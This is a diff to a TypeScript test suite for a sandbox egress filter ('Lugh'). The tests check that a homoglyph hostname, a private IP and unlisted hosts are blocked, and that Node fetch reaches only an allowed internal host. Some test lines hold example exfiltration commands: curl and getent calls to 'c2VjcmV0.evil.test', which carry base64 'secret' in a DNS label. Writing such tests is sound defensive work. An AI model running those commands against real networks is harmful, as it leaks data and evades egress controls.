@@ -153,13 +153,16 @@ describe.skipIf(skip)('what is not allowed', () => {
     expect(reached.filter((each) => each.startsWith('forbidden') || !each.includes(`host=shop.test:${allowed}`))).toEqual([])
   })
   it('is told in a sentence and remembered by its real name', async () => {
-    const done = await run(`curl -sS "http://shоp.test:${allowed}/"; curl -sS http://10.1.2.3/; curl -sS http://a.test/ http://a.test/`)
+    const heard: unknown[] = []
+    const network = { ...way(), onBlocked: (blocked: unknown) => void heard.push(blocked) }
+    const done = await run(`curl -sS "http://shоp.test:${allowed}/"; curl -sS http://10.1.2.3/; curl -sS http://a.test/ http://a.test/`, network)
     expect(done.stdout).toContain(`Lugh: xn--shp-ted.test:${allowed} is not among the hosts this project may reach.`)
     expect(done.traffic?.blocked).toEqual([
       { host: 'xn--shp-ted.test', port: allowed, reason: 'not-listed' },
       { host: '10.1.2.3', port: 80, reason: 'private', address: '10.1.2.3' },
       { host: 'a.test', port: 80, reason: 'not-listed' },
     ])
+    expect(heard).toEqual(done.traffic?.blocked)
   })
   it('is never looked up: a name carries nothing out', async () => {
     await run(`curl -sS http://c2VjcmV0.evil.test/; curl -sS -p http://c2VjcmV0.evil.test/; getent hosts c2VjcmV0.evil.test`)
@@ -197,6 +200,21 @@ describe.skipIf(skip)('a name of Lugh’s own', () => {
     expect((await ask(new Map([['model.lugh.internal', handler]]))).stdout).toBe('GET /v1/messages Bearer run-token')
     expect((await ask(new Map([['other.lugh.internal', handler]]))).stdout).toContain('is not among the hosts')
     expect((await ask()).stdout).toContain('is not among the hosts')
+    expect(asked).toEqual([])
+  })
+})
+
+describe.skipIf(skip)('a name of Lugh’s own, asked by Node', () => {
+  it('is answered in the tunnel that its `fetch` opens for plain HTTP, and on no other port and by no TLS', async () => {
+    const handler: InternalHost = (request, response) => {
+      request.resume().on('end', () => response.end(`${request.method} ${request.url}`))
+    }
+    const get = (url: string): string =>
+      `fetch('${url}', { method: 'POST', body: 'x' }).then((a) => a.text()).then(console.log, () => console.log('no'))`
+    const host = 'model.lugh.internal'
+    const lines = [`http://${host}/v1/messages`, `http://${host}:8080/`, `https://${host}/`].map((url) => `node -e "${get(url)}"`)
+    const done = await run(lines.join('; '), { rules: [], internal: new Map([[host, handler]]) })
+    expect(done.stdout.split('\n')).toEqual(['POST /v1/messages', 'no', 'no', ''])
     expect(asked).toEqual([])
   })
 })
